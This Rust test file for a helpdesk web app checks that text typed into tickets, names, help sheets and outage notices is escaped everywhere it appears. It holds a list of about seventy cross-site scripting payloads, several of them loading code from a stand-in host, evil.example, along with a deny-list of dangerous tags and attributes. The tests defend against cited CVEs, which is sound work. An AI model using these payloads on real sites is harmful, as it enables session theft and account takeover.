//! Scripts typed into every free-text field, then read on every page, in every letter and table that shows them: what
//! was typed is read as it was typed, and nothing of it is an element, an attribute, an address.

use super::{new_id, of};
use crate::stickers::{self, new_secret};
use crate::support::html::Page;
use crate::support::{Answer, App, Person, world};
use chrono::TimeDelta;

/// Each holds `pwn`, so that whatever becomes of it can be found; each fits into a line of 80 characters.
const PAYLOADS: [&str; 60] = [
    "<script>pwn(1)</script>",
    "<ScRiPt src=//evil.example/pwn.js></ScRiPt>",
    "<script\t>pwn()</script >",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "\"><script>pwn()</script>",
    "'><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</option></select><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "--><script>pwn()</script><!--",
    "<img src=x onerror=pwn()>",
    "<img src=x onerror=\"pwn()\"//",
    "<img/src='x'/onerror='pwn()'>",
    "\"onmouseover=\"pwn()\" x=\"",
    "' onfocus='pwn()' autofocus='",
    "` onfocus=`pwn()` autofocus",
    "x onclick=pwn() y",
    "<body onload=pwn()>",
    "<svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><animate onbegin=pwn() attributeName=x>",
    "<svg><use href=\"data:image/svg+xml,pwn#x\"/></svg>",
    "<svg><foreignObject><body onload=pwn()>",
    "<details open ontoggle=pwn()>x</details>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<marquee onstart=pwn()>x</marquee>",
    "<input autofocus onfocus=pwn()>",
    "<button formaction=javascript:pwn()>x</button>",
    "<form action=//evil.example/pwn><input type=submit>",
    "<form id=pwn><input name=action></form>",
    "<a id=pwn name=location href=x>x</a>",
    "<a href=\"javascript:pwn()\">x</a>",
    "<a href=\"java\tscript:pwn()\">x</a>",
    "<a href=\" javascript:pwn()\">x</a>",
    "<a href=\"&#106;avascript:pwn()\">x</a>",
    "<a href=\"data:text/html,<script>pwn()</script>\">x</a>",
    "<a href='vbscript:pwn()'>x</a>",
    "javascript:pwn()",
    "<iframe srcdoc='<script>pwn()</script>'></iframe>",
    "<iframe src=javascript:pwn()></iframe>",
    "<object data=data:text/html,pwn></object>",
    "<embed src=//evil.example/pwn.swf>",
    "<base href=//evil.example/pwn/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/pwn'>",
    "<link rel=stylesheet href=//evil.example/pwn.css>",
    "<style>@import'//evil.example/pwn.css';</style>",
    "<div style=position:fixed;inset:0;background:url(//evil.example/pwn)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=--><img src=pwn>",
    "<table><td background=//evil.example/pwn>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\">",
    "<!--[if gte IE 4]><script>pwn()</script><![endif]-->",
    "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"pwn\">",
    "<![CDATA[<script>pwn()</script>]]>",
    "&lt;u onclick=pwn()&gt;as text&lt;/u&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "{{pwn}} {{{t \"nav-home\"}}} {{#each .}}{{this}}{{/each}} {{> layouts/base}}",
    "{ $pwn } { -pwn } { NUMBER(1) } ${pwn} #{pwn} <%= pwn %>",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4- \u{ff1c}script\u{ff1e}pwn",
];

/// Attributes in which words may stand: nothing runs from them.
const OF_WORDS: [&str; 7] = ["value", "alt", "title", "aria-label", "placeholder", "data-label", "content"];
const NEVER: [&str; 13] = [
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "video",
    "audio",
    "math",
    "marquee",
    "source",
    "foreignobject",
    "animate",
    "use",
];

/// Nothing on the page came from a payload but words.
fn is_harmless(page: &Page, about: &str) {
    for element in page.elements() {
        let tag = element.tag.to_lowercase();
        assert!(!NEVER.contains(&tag.as_str()) && tag.chars().all(|c| c.is_ascii_alphanumeric()), "{about}: <{tag}>");
        for (name, value) in element.attributes() {
            assert!(name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == ':'), "{about}: <{tag} {name}>");
            assert!(
                !name.starts_with("on") && !["style", "srcdoc", "formaction", "background"].contains(&name.as_str()),
                "{about}: <{tag} {name}>"
            );
            assert!(!value.contains("pwn") || OF_WORDS.contains(&name.as_str()), "{about}: <{tag} {name}={value:?}>");
            if ["href", "src", "action", "data"].contains(&name.as_str()) {
                let ours = ["/", "#", "mailto:", "tel:"].iter().any(|start| value.starts_with(start)) && !value.starts_with("//");
                // The one address of others: where the statement of accessibility sends who gets no answer.
                let recourse = value == "https://formulaire.defenseurdesdroits.fr/";
                assert!(ours || recourse, "{about}: <{tag} {name}={value:?}>");
            }
        }
        let runs = tag == "script" && !(element.attribute("type") == Some("module") && element.text.trim().is_empty());
        assert!(!runs, "{about}: a script");
        let refreshes = tag == "meta" && element.attribute("http-equiv").is_some();
        assert!(!refreshes, "{about}: a meta");
    }
    let mut ids: Vec<&str> = page.elements().iter().filter_map(|element| element.attribute("id")).collect();
    let all = ids.len();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), all, "{about}: an id twice");
}

fn single_spaced(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The raw page holds no payload that means something to a browser, and reads as was typed.
fn reads_as_typed<'a>(answer: &Answer, typed: impl IntoIterator<Item = &'a str>, about: &str) {
    assert_eq!(answer.status, 200, "{about}");
    let (body, page) = (answer.body(), answer.page());
    is_harmless(&page, about);
    let words = page.text();
    let shown: String = page.elements().iter().filter_map(|e| e.attribute("value")).collect::<Vec<_>>().join(" ");
    for payload in typed {
        let meaningful = payload.contains(['<', '>', '"', '\'', '`', '&']);
        assert!(!meaningful || !body.contains(payload), "{about}: {payload:?} stands there as it was typed");
        let read = single_spaced(payload);
        assert!(words.contains(&read) || single_spaced(&shown).contains(&read), "{about} does not say {read:?}:\n{words}");
    }
}

async fn accepted(person: &mut Person<'_>, address: &str, form: &[(&str, &str)], about: &str) -> String {
    let answer = person.post(address, form).await;
    assert_eq!(answer.status, 303, "{about} {:?}: {}", form, answer.page().text());
    answer.location().to_owned()
}

/// A line of text takes no tab: what breaks a word there is another space.
fn line(payload: &str) -> String {
    payload.replace('\t', "\u{a0}").chars().take(80).collect()
}

fn lines() -> Vec<String> {
    PAYLOADS.iter().map(|payload| line(payload)).collect()
}

/// FreeScout CVE-2026-32754, OTRS CVE-2012-4751, CVE-2021-21441: in what people write to each other.
#[rocket::async_test]
async fn cve_2026_32754_scripts_in_conversations_are_read_and_never_run() {
    let app = App::start().await;
    let (mut jordan, mut samira) = (app.signed_in("jordan_pages").await, app.signed_in("samira_benali").await);
    let mut veronique = app.signed_in("veronique_lacaze").await;
    assert!(!samira.get("/tickets").await.body().contains("pwn"), "the world itself is plain");
    let all = PAYLOADS.join("\n\n");
    let mut told = 0;
    for (n, payload) in PAYLOADS.iter().enumerate() {
        let ticket = new_id();
        let asked = jordan.upload(&of("douces", "/tickets"), &[("ticket", &ticket), ("words", payload)], &[]).await;
        assert_eq!(asked.status, 303, "{payload:?}");
        let address = format!("/tickets/{ticket}");
        assert_eq!(samira.triage(&address, &[("title", &line(payload))]).await.status, 303, "a title");
        // The rest once in six: every payload stands in each of them at once.
        if n % 6 != 0 {
            continue;
        }
        let (message, entry, note) = (new_id(), new_id(), new_id());
        let answer = |message: &str, act: &'static str, next: &'static str| {
            [
                ("message", message.to_owned()),
                ("entry", entry.clone()),
                ("words", all.clone()),
                ("next", next.to_owned()),
                ("minutes", "0".to_owned()),
                ("kind", "remote".to_owned()),
                ("act", act.to_owned()),
            ]
        };
        for form in [answer(&note, "note", "in_hand"), answer(&message, "send", "settled")] {
            let form: Vec<(&str, &str)> = form.iter().map(|(name, value)| (*name, value.as_str())).collect();
            accepted(&mut samira, &format!("{address}/answers"), &form, "an answer").await;
        }
        accepted(&mut jordan, &format!("{address}/reopening"), &[("message", &new_id()), ("words", &all)], "a reopening").await;
        let reason = samira.triage(&address, &[("priority", "blocks"), ("reason", &line(payload))]).await;
        assert_eq!(reason.status, 303, "a reason");
        accepted(&mut samira, &format!("{address}/assignment"), &[("reason", &line(payload))], "a reason").await;
        accepted(&mut veronique, &format!("{address}/messages"), &[("message", &new_id()), ("words", &all)], "a message").await;
        for person in [&mut samira, &mut jordan, &mut veronique] {
            reads_as_typed(&person.get(&address).await, PAYLOADS, "the page of a ticket");
        }
        for letter in app.letters().await {
            is_harmless_letter(&letter.html, payload);
            told += 1;
        }
    }
    assert!(told > 30, "letters were written");
    let typed = lines();
    let pages = [samira.get("/tickets").await, jordan.get("/tickets").await, veronique.get("/").await, samira.get("/").await];
    for page in pages.iter().chain([&veronique.get(&of("douces", "/tickets")).await]) {
        is_harmless(&page.page(), "a list of tickets");
        assert!(page.body().contains("pwn"), "titles are listed");
    }
    reads_as_typed(&pages[1], typed[20..].iter().map(String::as_str), "one's own requests");
}

fn is_harmless_letter(html: &str, about: &str) {
    let page = Page::read(html);
    for element in page.elements() {
        assert!(
            ["html", "body", "p", "blockquote", "a", "b"].contains(&element.tag.as_str()),
            "{about}: <{}> in a letter",
            element.tag
        );
        for (name, value) in element.attributes() {
            let known = ["lang", "style", "href"].contains(&name.as_str());
            assert!(known && !value.contains("pwn"), "{about}: {name}={value:?} in a letter");
            assert!(name != "href" || value.starts_with("https://parc.example/"), "{about}: {value}");
        }
    }
}

/// Zammad CVE-2018-1000154, GLPI CVE-2022-41941: in names, places, numbers, notes, reasons.
#[rocket::async_test]
async fn cve_2018_1000154_scripts_in_names_are_read_and_never_run() {
    let app = App::start().await;
    let (mut claire, mut veronique) = (app.signed_in("claire_vidal").await, app.signed_in("veronique_lacaze").await);
    let mut samira = app.signed_in("samira_benali").await;
    let typed = lines();
    let structure = world::id("structures/douces");
    let mut pages = Vec::new();
    for (n, payload) in typed.iter().enumerate() {
        let short: String = payload.chars().take(60).collect();
        let form = [
            ("name", payload.as_str()),
            ("kind", "laptop"),
            ("place", payload),
            ("brand", &short),
            ("model", &short),
            ("serial", &short),
            ("note", payload),
        ];
        pages.push(accepted(&mut veronique, &of("douces", "/equipment"), &form, "a machine").await);
        let email = format!("guest{n}@b.example");
        let guest = [
            ("name", payload.as_str()),
            ("email", &email),
            ("phone", &payload[..payload.len().min(3)]),
            ("role", "employee"),
            ("language", "fr"),
        ];
        accepted(&mut veronique, &of("douces", "/people"), &guest, "a person").await;
        let code = format!("P{n}");
        let joining = [
            ("code", code.as_str()),
            ("name", payload),
            ("city", payload),
            ("address", payload),
            ("first_month", "2026-03"),
            ("monthly", "1 h"),
        ];
        pages.push(accepted(&mut claire, "/structures", &joining, "a structure").await);
        let entry = new_id();
        let work = [
            ("entry", entry.as_str()),
            ("structure", &structure),
            ("day", "2026-03-23"),
            ("minutes", "1 min"),
            ("kind", "remote"),
            ("note", payload),
        ];
        accepted(&mut samira, "/interventions", &work, "an intervention").await;
    }
    let all = || typed.iter().map(String::as_str);
    reads_as_typed(&veronique.get(&of("douces", "/equipment")).await, all(), "the register");
    reads_as_typed(&veronique.get(&of("douces", "/people")).await, all(), "the people");
    reads_as_typed(&veronique.get(&of("douces", "/hours")).await, all(), "the sheet");
    reads_as_typed(&samira.get("/interventions").await, all(), "the week");
    reads_as_typed(&claire.get("/structures").await, all(), "the structures");
    reads_as_typed(&claire.get("/report").await, all(), "the report");
    for page in ["/calls/new", "/interventions/new"] {
        reads_as_typed(&samira.get(page).await, all(), page);
    }
    reads_as_typed(&samira.get(&format!("/calls/new?structure={structure}")).await, all(), "a call");
    reads_as_typed(&samira.get(&format!("/interventions/new?structure={structure}")).await, all(), "time with machines");
    is_harmless(&veronique.get(&of("douces", "/tickets/new")).await.page(), "the form of a request");
    is_harmless(&veronique.get(&of("douces", "/equipment/new")).await.page(), "the form of a machine");
    is_harmless(&claire.get("/").await.page(), "the coordinator's home");
    for (place, page) in pages.iter().enumerate() {
        let person = if page.starts_with("/equipment") { &mut veronique } else { &mut claire };
        reads_as_typed(&person.get(page).await, [typed[place / 2].as_str()], page);
        if place % 10 < 2 {
            reads_as_typed(&person.get(&format!("{page}/edit")).await, [typed[place / 2].as_str()], "a form filled in");
        }
    }
    for letter in app.letters().await {
        is_harmless_letter(&letter.html, "an invitation");
    }
    // The table says what was typed; what would be a formula has its apostrophe.
    let table = veronique.get(&of("douces", "/hours.csv")).await.body().replace("\"\"", "\"");
    for payload in &typed {
        assert!(table.contains(payload.as_str()), "the table says {payload:?}");
    }
}

/// One's own name, the group's, an amendment: on every page of everybody.
#[rocket::async_test]
async fn cve_2012_4751_scripts_in_the_names_on_every_page_never_run() {
    let app = App::start().await;
    let (mut claire, mut samira) = (app.signed_in("claire_vidal").await, app.signed_in("samira_benali").await);
    for payload in lines().iter().step_by(4) {
        let named = [("name", payload.as_str()), ("phone", &payload[..payload.len().min(3)]), ("language", "fr")];
        for person in [&mut claire, &mut samira] {
            accepted(person, "/account", &named, "one's name").await;
        }
        let group = [("name", payload.as_str()), ("phone", &payload[..payload.len().min(3)]), ("email", "a@b.example")];
        accepted(&mut claire, "/group", &group, "the group").await;
        for address in ["/", "/account", "/group", "/people", "/nowhere", "/help", "/privacy", "/accessibility", "/rules"] {
            let page = claire.get(address).await.page();
            is_harmless(&page, address);
            assert!(page.title().contains(&single_spaced(payload)), "{address}: {}", page.title());
        }
        let amended = [("from_month", "2026-06"), ("monthly", "2 h"), ("note", payload.as_str())];
        let address = accepted(&mut claire, &of("douces", "/amendments"), &amended, "an amendment").await;
        is_harmless(&claire.get(&address).await.page(), "an amendment");
        for address in ["/", "/tickets", "/interventions"] {
            is_harmless(&samira.get(address).await.page(), address);
        }
        is_harmless(&app.nobody().get("/sign-in").await.page(), "signing in");
        // Mistakes give back what was typed.
        let wrong = claire
            .post("/structures", &[("name", payload), ("code", payload), ("first_month", payload), ("monthly", payload)])
            .await;
        assert_eq!(wrong.status, 422);
        is_harmless(&wrong.page(), "a form with mistakes");
        assert!(
            wrong.page().elements().iter().any(|e| e.attribute("value") == Some(payload.as_str())),
            "{payload:?} is still there"
        );
    }
}

/// GLPI CVE-2022-24868, CVE-2022-41941: in the title and in the Markdown of help sheets, on each page that shows them.
#[rocket::async_test]
async fn cve_2022_24868_scripts_in_help_sheets_are_read_and_never_run() {
    /// What means something in Markdown alone.
    const MARKED: [&str; 12] = [
        "[pwn](javascript:pwn())",
        "[pwn](JaVaScRiPt:pwn())",
        "[pwn](java\tscript:pwn())",
        "[pwn](&#106;avascript:pwn())",
        "[pwn](data:text/html,<script>pwn()</script>)",
        "[pwn](//evil.example/pwn)",
        "![pwn](https://evil.example/pwn.png)",
        "![pwn](javascript:pwn())",
        "<javascript:pwn()>",
        "[pwn]\n\n[pwn]: javascript:pwn() \"pwn\"",
        "```x\" onmouseover=\"pwn()\nfenced\n```",
        "# <script>pwn()</script>\n\n<h1 id=main onclick=pwn()>x</h1>",
    ];
    let app = App::start().await;
    let (mut samira, mut jordan) = (app.signed_in("samira_benali").await, app.signed_in("jordan_pages").await);
    for payload in PAYLOADS {
        let encoded = rocket::http::RawStr::new(payload).percent_encode().to_string();
        is_harmless(&jordan.get(&format!("/help-sheets?q={encoded}")).await.page(), "what was searched");
        let suggested = jordan.get(&format!("/help-sheets/suggestions?words={encoded}")).await;
        assert_eq!((suggested.status, suggested.header("content-type")), (200, "application/json"));
    }
    let typed = lines();
    let all = MARKED.iter().chain(&PAYLOADS).copied().collect::<Vec<_>>().join("\n\n");
    let mut last = String::new();
    for (n, words) in MARKED.iter().chain(&PAYLOADS).copied().chain([all.as_str()]).enumerate() {
        let (id, title) = (new_id(), typed[n % typed.len()].as_str());
        let form = |act: &'static str| {
            [("help_sheet", id.as_str()), ("title", title), ("reach", "public"), ("words", words), ("act", act)]
        };
        let looked = samira.post("/help-sheets", &form("look")).await;
        assert_eq!(looked.status, 200, "{words:?}");
        is_harmless(&looked.page(), "a preview");
        last = accepted(&mut samira, "/help-sheets", &form("save"), "a sheet").await;
        for person in [&mut samira, &mut jordan, &mut app.nobody()] {
            let page = person.get(&last).await;
            is_harmless(&page.page(), "a help sheet");
            assert!(page.body().contains("pwn"), "there was something to show");
            assert_eq!(page.page().all("h1").len(), 1, "{words:?}: one first heading");
        }
    }
    let change = [("version", "1"), ("title", "pwn"), ("reach", "public"), ("words", "pwn")];
    accepted(&mut samira, &last, &change, "a version").await;
    let overtaken = samira.post(&last, &[("version", "1"), ("title", "pwn"), ("reach", "public"), ("words", &all)]).await;
    assert_eq!(overtaken.status, 422);
    is_harmless(&overtaken.page(), "a conflict");
    for page in ["/edit", "/versions", "/versions/1"] {
        is_harmless(&samira.get(&format!("{last}{page}")).await.page(), page);
    }
    is_harmless(&samira.get("/help-sheets?q=javascript").await.page(), "what a search finds");
    is_harmless(&jordan.get("/help-sheets").await.page(), "the list");
}

/// The same in the notices of outages: told, changed, over, on each page that shows them.
#[rocket::async_test]
async fn cve_2022_41941_scripts_in_outages_are_read_and_never_run() {
    let app = App::start().await;
    let (mut samira, mut jordan) = (app.signed_in("samira_benali").await, app.signed_in("jordan_pages").await);
    let typed = lines();
    for (n, words) in PAYLOADS.iter().copied().enumerate() {
        let (id, title) = (new_id(), typed[n % typed.len()].as_str());
        let form = [
            ("outage", id.as_str()),
            ("version", "1"),
            ("title", title),
            ("words", words),
            ("reach", "group"),
            ("started_day", "2026-03-24"),
            ("started_at", "09:00"),
            ("public", "true"),
        ];
        let told = accepted(&mut samira, "/outages", &form, "an outage").await;
        let mut news = form;
        news[3] = ("words", "pwn");
        accepted(&mut samira, &told, &news, "news").await;
        let overtaken = samira.post(&told, &form).await;
        assert_eq!(overtaken.status, 422);
        is_harmless(&overtaken.page(), "a conflict");
        for person in [&mut samira, &mut jordan, &mut app.nobody()] {
            let page = person.get(&told).await;
            is_harmless(&page.page(), "an outage");
            assert!(page.body().contains("pwn"), "there was something to show");
        }
        is_harmless(&jordan.get("/").await.page(), "a first page");
        is_harmless(&jordan.get(&format!("/structures/{}/tickets/new", of_douces())).await.page(), "the form that asks");
        is_harmless(&samira.get(&format!("{told}/closing")).await.page(), "the last word");
        accepted(&mut samira, &format!("{told}/closing"), &[("words", words)], "an end").await;
        for person in [&mut samira, &mut jordan, &mut app.nobody()] {
            is_harmless(&person.get(&told).await.page(), "what is over");
            is_harmless(&person.get("/outages").await.page(), "the list");
        }
    }
}

fn of_douces() -> String {
    crate::support::world::id("structures/douces")
}

/// Through a label, by somebody without an account: on their own page, in the queue, on the page of the request, in letters.
#[rocket::async_test]
async fn cve_2026_32754_scripts_of_strangers_are_read_and_never_run() {
    let app = App::start().await;
    let (mut samira, mut veronique) = (app.signed_in("samira_benali").await, app.signed_in("veronique_lacaze").await);
    let mut told = 0;
    for (n, payload) in PAYLOADS.iter().enumerate() {
        // Thirty an hour tell somebody.
        if n % 20 == 0 {
            app.wait(TimeDelta::hours(1));
        }
        let (secret, email) = (new_secret(), format!("stranger{n}@b.example"));
        let name: String = line(payload).chars().take(40).collect();
        let form = [("secret", &*secret), ("words", payload), ("first_name", &name), ("email", &email)];
        let wrong = app.nobody().post(&format!("/e/{}", stickers::ON_A), &form[1..3]).await;
        assert_eq!(wrong.status, 422);
        is_harmless(&wrong.page(), "a mistake gives back what was typed");
        let sent = app.nobody().post(&format!("/e/{}", stickers::ON_A), &form).await;
        assert_eq!(sent.status, 303, "{payload:?}: {}", sent.page().text());
        is_harmless(&app.nobody().get(sent.location()).await.page(), "it is sent");
        reads_as_typed(&app.nobody().get(&format!("/follow/{secret}")).await, [*payload], "the page of who asked");
        for letter in app.letters().await {
            is_harmless_letter(&letter.html, payload);
            told += 1;
        }
    }
    assert!(told >= 120, "letters were written: {told}");
    let queue = samira.get("/tickets?sort=newest").await.page();
    is_harmless(&queue, "the queue");
    let links: Vec<String> = queue.all("link").iter().filter_map(|link| link.attribute("href").map(str::to_owned)).collect();
    let mut read = 0;
    for address in links.iter().filter(|to| to.starts_with("/tickets/") && to.len() == 45) {
        for person in [&mut samira, &mut veronique] {
            let page = person.get(address).await;
            is_harmless(&page.page(), "the page of a ticket");
            read += usize::from(page.body().contains("pwn"));
        }
        is_harmless(&samira.get(&format!("{address}/participations")).await.page(), "its people");
    }
    assert!(read > 60, "there was something to read: {read}");
}
